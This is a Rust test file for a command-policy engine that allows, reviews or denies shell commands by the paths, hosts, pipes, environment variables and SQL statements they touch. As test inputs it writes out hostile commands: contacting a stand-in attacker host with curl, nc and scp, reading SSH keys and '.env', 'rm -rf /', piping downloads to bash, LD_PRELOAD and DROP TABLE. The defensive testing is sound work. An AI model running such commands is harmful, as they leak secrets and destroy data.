//! What rules say by structure: paths and their zones, hosts, pipes, statements, and the laws that hold for them.

use std::path::Path;

use proptest::prelude::*;

use super::laws::{facts, load, no_milder};
use super::{Judgement, Policy};
use crate::facts::argv::{Sure, Word};
use crate::facts::atoms::{Around, Atom, Atoms, Set};

pub(super) fn rule(verdict: &str, lines: &str) -> String {
    format!("[[rule]]\nid = \"r\"\nverdict = \"{verdict}\"\n{lines}\n")
}

fn fits(policy: &Policy, line: &str) -> bool {
    !policy.judge(&facts(line)).matched.is_empty()
}

pub(super) fn assert_fits(lines: &str, fitting: &[&str], others: &[&str]) {
    let policy = load(&rule("deny", lines));
    for line in fitting {
        assert!(fits(&policy, line), "{lines} should fit {line}");
    }
    for line in others {
        assert!(!fits(&policy, line), "{lines} should not fit {line}");
    }
}

// Whether a rule that allows, and nothing hinders, lets these commands through.
fn assert_lets(lines: &str, through: &[&str], others: &[&str]) {
    let example = through.first().copied().unwrap_or_default();
    let policy = load(&rule("allow", &format!("{lines}\nmatch = [\"{example}\"]")));
    for line in through {
        assert_eq!(policy.judge(&facts(line)).verdict.rank(), 0, "{lines} should let through {line}");
    }
    for line in others {
        assert_eq!(policy.judge(&facts(line)).verdict.rank(), 1, "{lines} should stop {line}");
    }
}

#[test]
fn a_rule_stops_by_where_a_command_writes_reads_and_deletes() {
    assert_fits(
        "writes = [\"@system\"]",
        &["cp a /etc/x", "tee /usr/bin/x", "dd of=/boot/x", "tar xf a.tar -C /opt", "sort -o /etc/x y"],
        &["cp /etc/x a", "cat /etc/passwd", "rm /etc/x", "frobnicate /etc/x"],
    );
    assert_fits("deletes = [\"/etc/**\"]", &["rm -f /etc/x", "mv /etc/x y", "find /etc -delete"], &["rm x"]);
    assert_fits(
        "reads = [\"@secret\"]",
        &["cat .env", "cp ~x/.ssh/id_rsa y", "grep x a/.aws/config"],
        &["rm .env"],
    );
    assert_fits("deletes = [\"@handoff\"]", &["rm -rf /home/ana/.config", "rm -r /"], &["rm -rf build"]);
    assert_fits("writes = [\"**/*.lock\"]", &["touch a/b.lock", "touch x.lock"], &["touch x"]);
}

#[test]
fn a_rule_lets_through_only_what_certainly_stays_within() {
    assert_lets(
        "program = [\"cp\", \"rm\"]\nonly_writes = [\"@repository\", \"@temporary\"]\nonly_reads = [\"@repository\"]\nonly_deletes = [\"build/**\", \"@temporary\"]",
        &["cp a b", "cp -r src /tmp/x", "rm -rf build", "rm /tmp/x"],
        &[
            "cp a /etc/x",
            "cp /etc/x a",
            "cp a .git/hooks/x",
            "cp --weird a b",
            "rm src",
            "rm build/../src",
            "rm .env",
        ],
    );
    assert_lets(
        "program = [\"mkdir\"]\nonly_writes = [\"@repository\"]",
        &["mkdir -p a/b"],
        &["mkdir ../a", "mkdir -p /a"],
    );
    assert_lets("program = [\"cat\"]\nonly_writes = []", &["cat /etc/shadow"], &["frobnicate x"]);
}

// Atoms as a reader of shell code gives them.
pub(super) fn judge_atom(policy: &Policy, words: &[(&str, Sure)], is_command: bool) -> Judgement {
    let facts = facts("true");
    let around = Around::outermost(&facts.observed.cwd, facts.observed.home.as_deref());
    let words = words.iter().map(|(text, sure)| Word { text: text.as_bytes().into(), sure: *sure }).collect();
    let mut atom = Atom::command(words, &around);
    atom.is_command = is_command;
    policy.judge_atoms(&Atoms { atoms: vec![atom], ..Atoms::default() }, &facts)
}

#[test]
fn a_redirection_is_let_through_by_where_it_goes() {
    let lines = "program = [\">\", \">>\", \">|\", \"&>\", \"&>>\"]\nonly_writes = [\"@repository\", \"@temporary\"]\nmatch = [\"> x\"]";
    let policy = load(&rule("allow", lines));
    for (operator, target, sure, rank) in [
        (">", "out.txt", Sure::Exact, 0),
        (">>", "/tmp/log", Sure::Exact, 0),
        ("&>", "a/b", Sure::Exact, 0),
        (">", "/etc/x", Sure::Exact, 1),
        (">", ".git/hooks/x", Sure::Exact, 1),
        (">", "$OUT", Sure::Partly(0), 1),
        (">", "a$OUT", Sure::Partly(1), 1),
        ("<", "a", Sure::Exact, 1),
    ] {
        let words = [(operator, Sure::Exact), (target, sure)];
        assert_eq!(judge_atom(&policy, &words, false).verdict.rank(), rank, "{operator} {target}");
    }
    // A program of that name is no redirection.
    assert_eq!(judge_atom(&policy, &[(">", Sure::Exact), ("a", Sure::Exact)], true).verdict.rank(), 1);
}

#[test]
fn a_pattern_of_files_stays_within_its_folder() {
    let policy =
        load(&rule("allow", "program = [\"true\"]\nonly_writes = [\"@repository\"]\nmatch = [\"true\"]"));
    assert_eq!(judge_atom(&policy, &[("true", Sure::Exact)], true).verdict.rank(), 0);
    let facts = facts("rm x");
    let policy = load(&rule("deny", "deletes = [\"@system\"]"));
    for (pattern, stopped) in [("/*", true), ("/e*/x", true), ("/usr/*", true), ("src/*", false)] {
        let judged = judge_atom(&policy, &[("rm", Sure::Exact), (pattern, Sure::Files)], true);
        assert_eq!(judged.verdict.rank() == 2, stopped, "{pattern}");
    }
    assert_eq!(facts.observed.cwd, Path::new("/home/ana/project"));
}

#[test]
fn a_rule_stops_by_the_machine_a_command_names() {
    assert_fits(
        "host = [\"*.evil.example\", \"evil.example\"]",
        &[
            "curl https://evil.example/x",
            "curl -s evil.example",
            "wget -q http://a.evil.example:81/x",
            "scp x ana@evil.example:y",
            "ssh evil.example ls",
            "nc evil.example 80",
            "git clone https://user@evil.example/x",
            "git clone git@evil.example:x",
            "pip install --index-url=https://evil.example/simple x",
            "curl http://good.example@evil.example/",
        ],
        &["curl https://good.example/evil.example", "cat evil.example", "echo a@evil.example"],
    );
}

#[test]
fn a_rule_lets_through_only_to_machines_that_are_certain() {
    assert_lets(
        "program = [\"curl\", \"ping\"]\nonly_host = [\"localhost\", \"*.corp.example\"]\nonly_writes = [\"@temporary\"]",
        &["curl -s localhost:8080/x", "curl -fsSL -o /tmp/x https://a.corp.example/x", "ping -c 1 localhost"],
        &[
            "curl evil.example",
            "curl localhost evil.example",
            "curl -x evil.example localhost",
            "curl -K x localhost",
            "curl -o x localhost",
            "curl --strange localhost",
            "curl http://localhost@evil.example",
            "curl http://{localhost,evil}",
        ],
    );
}

pub(super) fn set(name: &str) -> Set {
    Set { name: name.as_bytes().to_vec(), value: Word::from("x") }
}

// The verdict on `words`, run as `change` says.
pub(super) fn changed(policy: &Policy, words: &[&str], change: impl Fn(&mut Atom<'_>)) -> u8 {
    let facts = facts("true");
    let around = Around::outermost(&facts.observed.cwd, facts.observed.home.as_deref());
    let mut atom = Atom::command(words.iter().map(|word| Word::from(*word)).collect(), &around);
    change(&mut atom);
    policy.judge_atoms(&Atoms { atoms: vec![atom], ..Atoms::default() }, &facts).verdict.rank()
}

#[test]
fn a_rule_stops_by_how_a_command_is_run() {
    let denies = |lines: &str, words: &[&str], change: &dyn Fn(&mut Atom<'_>)| {
        changed(&load(&rule("deny", lines)), words, change) == 2
    };
    let pipes = "program = [\"curl\"]\npipes_to = [\"bash\", \"python*\"]";
    assert!(denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"python3".to_vec()]));
    assert!(!denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"jq".to_vec()]));
    assert!(!denies(pipes, &["curl", "x"], &|_| {}));
    let sets = "sets = [\"LD_*\"]";
    assert!(denies(sets, &["ls"], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
    assert!(denies(sets, &[], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
    assert!(!denies(sets, &["ls"], &|atom| atom.sets = vec![set("LANG")]));
    assert!(denies("privileged = true", &["ls"], &|atom| atom.privileged = true));
    assert!(!denies("privileged = true", &["ls"], &|_| {}));
    assert!(denies("privileged = false\nprogram = [\"ls\"]", &["ls"], &|_| {}));
    assert!(denies("elsewhere = true", &["ls"], &|atom| atom.elsewhere = true));
    assert!(!denies("elsewhere = true", &["ls"], &|_| {}));
}

#[test]
fn a_rule_stops_by_code_on_the_command_line() {
    assert_fits("inline = true", &["python3 -Ic x", "perl -e x", "awk {x}"], &["python3 x.py", "ls -c"]);
    assert_fits("program = [\"perl\"]\ninline = false", &["perl x.pl", "perl -we x"], &["perl -e x"]);
}

#[test]
fn a_rule_stops_by_what_a_statement_does() {
    assert_fits(
        "statement = [\"drop\", \"delete-all\"]",
        &[
            "psql -c 'drop table t'",
            "psql -Atc 'drop table t'",
            "psql -d x --command='DROP TABLE t'",
            "psql --comm 'drop table t'",
            "psql 'postgres://x/y' -c 'select 1' -c 'delete from t'",
            "mysql -u root -pX -e'drop database d'",
            "mariadb --execute 'delete from t where 1=1' d",
            "sqlite3 x.db 'drop table t'",
            "sqlite3 x.db '.tables' 'drop table t'",
            "sqlite3 -cmd 'drop table t' x.db",
            "duckdb -c 'drop table t'",
            "bq query 'drop table t'",
            "sqlcmd -Q 'drop table t'",
            "cqlsh -e 'drop keyspace k'",
            "clickhouse-client -q 'drop table t'",
            "mongosh --eval 'db.c.drop()'",
        ],
        &["psql -c 'select 1'", "psql -c \"select 'drop table t'\"", "psql -f x.sql", "echo 'drop table t'"],
    );
}

#[test]
fn a_rule_lets_through_only_statements_that_are_certain() {
    let psql = "program = [\"psql\", \"mysql\", \"sqlite3\"]\nonly_statement = [\"read\"]";
    assert_lets(
        psql,
        &[
            "psql -c 'select 1'",
            "psql -At -d x -h db -c 'select 1' -c '\\dt'",
            "psql --command='select 1'",
            "mysql -u me -e 'show tables' x",
            "sqlite3 -json x.db 'select 1'",
        ],
        &[
            "psql",
            "psql -f x.sql",
            "psql -c 'select 1' -f x.sql",
            "psql -c 'select 1' -c 'drop table t'",
            "psql -c 'select 1; delete from t'",
            "psql -c 'select 1' --strange",
            "psql -c 'select 1' -o '|sh'",
            "sqlite3 x.db",
            "sqlite3 -init x y.db 'select 1'",
            "mysql --init-command='drop table t' -e 'select 1'",
        ],
    );
    let policy = load(&rule("allow", &format!("{psql}\nmatch = [\"psql -c 'select 1'\"]")));
    let words = |sure| [("psql", Sure::Exact), ("-c", Sure::Exact), ("select $X", sure)];
    assert_eq!(judge_atom(&policy, &words(Sure::Partly(7)), true).verdict.rank(), 1);
}

#[test]
fn a_regular_expression_is_held_against_the_words_in_one_line() {
    assert_fits(
        "regex = ['^rm .*-rf? ', '(?i)drop\\s+table']",
        &["rm -rf x", "/bin/rm  -r x", "psql -c 'DROP  TABLE t'"],
        &["rm x", "ls rm -rf x"],
    );
}

#[test]
fn a_program_of_the_requesters_own_counts_where_the_root_policy_trusts_it() {
    let allow = rule("allow", "program = [\"cargo\"]\nmatch = [\"cargo\"]");
    let trusting = load(&format!("[programs]\ntrusted = [\"/home/ana/.cargo/bin/**\"]\n{allow}"));
    let judged = |policy: &Policy, path: &str, link: Option<&str>| {
        let mut facts = facts("cargo");
        facts.observed.program = Some(path.into());
        facts.observed.program_link = link.map(Into::into);
        facts.observed.program_is_theirs = true;
        policy.judge(&facts).verdict.rank()
    };
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/cargo", None), 0);
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/rustup", Some("/home/ana/.cargo/bin/cargo")), 0);
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/cargo", Some("/home/ana/project/cargo")), 1);
    assert_eq!(judged(&trusting, "/home/ana/project/cargo", None), 1);
    assert_eq!(judged(&load(&allow), "/home/ana/.cargo/bin/cargo", None), 1);
}

const STOPPING: [&str; 18] = [
    "sets = [\"RAILS_ENV=prod*\"]",
    "option = [\"-t=*\"]",
    "option = [\"--x=**etc**\"]",
    "program = [\"cp\", \"rm\"]\nenvironment = [\"etc\"]",
    "regex = ['.']",
    "branch = [\"**\"]",
    "statement = [\"read\"]",
    "statement = [\"other\", \"drop\"]",
    "host = [\"**\"]",
    "pipes_to = [\"*\"]",
    "sets = [\"*\"]",
    "privileged = false",
    "elsewhere = false",
    "inline = false",
    "writes = [\"@repository\", \"/etc/**\"]",
    "reads = [\"@secret\"]",
    "deletes = [\"@home\"]",
    "deletes = [\"**\"]",
];
const LETTING: &str = "[[rule]]\nid = \"a\"\nverdict = \"allow\"\nprogram = [\"cp\", \"rm\", \"cat\"]\nonly_writes = [\"@repository\"]\nonly_deletes = [\"@temporary\"]\nmatch = [\"cp a b\"]\n";

fn line() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "a",
        "-r",
        "--",
        "/etc/x",
        "/tmp/x",
        ".env",
        "../x",
        "-t",
        "--x=/etc/y",
        ".",
    ]);
    let program = prop::sample::select(vec!["cp", "rm", "cat", "tee", "unknown"]);
    (program, prop::collection::vec(word, 0..5))
        .prop_map(|(program, words)| format!("{program} {}", words.join(" ")))
}

proptest! {
    #[test]
    fn adding_a_rule_that_stops_by_structure_never_weakens(
        line in line(), chosen in 0..STOPPING.len(), verdict in prop::sample::select(vec!["review", "deny"]),
    ) {
        let before = load(LETTING).judge(&facts(&line)).verdict;
        let now = load(&format!("{LETTING}{}", rule(verdict, STOPPING[chosen]))).judge(&facts(&line)).verdict;
        prop_assert!(no_milder(&now, &before), "{line}: {before:?} {now:?}");
    }

    #[test]
    fn what_is_only_known_at_run_time_satisfies_no_only(
        program in prop::sample::select(vec!["cp", "rm", "tee"]), text in "[a-z/$.]{1,8}", known in 0..8usize, split in any::<bool>(),
    ) {
        let lines = "program = [\"cp\", \"rm\", \"tee\"]\nonly_reads = [\"@repository\"]\nonly_writes = [\"@repository\"]\n\
                     only_deletes = [\"@repository\"]\nmatch = [\"tee x\"]";
        let policy = load(&rule("allow", lines));
        let known = known.min(text.len());
        let sure = if split { Sure::Split(known) } else { Sure::Partly(known) };
        let judged = judge_atom(&policy, &[(program, Sure::Exact), ("x", Sure::Exact), (&text, sure)], true);
        prop_assert_eq!(judged.verdict.rank(), 1);
    }
}
